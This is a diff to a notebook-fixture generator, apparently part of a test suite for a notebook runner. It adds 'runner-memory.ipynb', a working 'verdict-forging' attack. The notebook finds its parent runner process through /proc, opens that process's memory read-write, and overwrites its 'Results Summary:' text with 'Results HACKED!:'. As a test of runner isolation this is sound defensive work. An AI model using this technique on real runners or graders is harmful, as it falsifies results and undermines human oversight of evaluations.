@@ -282,3 +282,49 @@ write("raises-sysexit.ipynb", nb([
 write("validation-many.ipynb", nb([new_code_cell("import sys, traceback")] + [
     new_code_cell(f"print('noise {i}', file=sys.stderr)\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    traceback.print_exc(file=sys.stdout)")
     for i in range(1, 106)]))
+# The verdict-forging attack: the kernel finds nbrunner among its ancestors (by /proc/PID/comm),
+# opens its /proc/PID/mem read-write and overwrites every `Results Summary:` it finds with
+# `Results HACKED!:`. It prints how far it got, and whether the kernel itself is dumpable.
+write("runner-memory.ipynb", nb([
+    new_code_cell(
+        "import ctypes, errno, os\n"
+        "def parent(pid):\n"
+        "    text = open(f'/proc/{pid}/stat').read()\n"
+        "    return int(text[text.rindex(')') + 2:].split()[1])\n"
+        "runner = os.getpid()\n"
+        "while runner > 1 and open(f'/proc/{runner}/comm').read().strip() != 'nbrunner':\n"
+        "    runner = parent(runner)\n"
+        "print('runner', runner, open(f'/proc/{runner}/comm').read().strip())\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "print('kernel-dumpable', libc.prctl(3, 0, 0, 0, 0))  # PR_GET_DUMPABLE\n"
+        "marker, forged = b'Results ' + b'Summary:', b'Results HACKED!:'\n"
+        "patched = 0\n"
+        "try:\n"
+        "    maps = open(f'/proc/{runner}/maps').read().splitlines()\n"
+        "    mem = open(f'/proc/{runner}/mem', 'r+b', buffering=0)\n"
+        "except OSError as error:\n"
+        "    print('mem-open', errno.errorcode[error.errno])\n"
+        "else:\n"
+        "    print('mem-open ok')\n"
+        "    for line in maps:\n"
+        "        fields = line.split()\n"
+        "        if not fields[1].startswith('r') or fields[-1] in ('[vvar]', '[vvar_vclock]', '[vsyscall]'):\n"
+        "            continue\n"
+        "        start, end = (int(x, 16) for x in fields[0].split('-'))\n"
+        "        try:\n"
+        "            mem.seek(start)\n"
+        "            data = mem.read(end - start)\n"
+        "        except OSError:\n"
+        "            continue\n"
+        "        at = data.find(marker)\n"
+        "        while at >= 0:\n"
+        "            try:\n"
+        "                mem.seek(start + at)\n"
+        "                mem.write(forged)\n"
+        "                patched += 1\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "            at = data.find(marker, at + 1)\n"
+        "print('patched', patched)"),
+    new_code_cell("print('done')"),
+]))
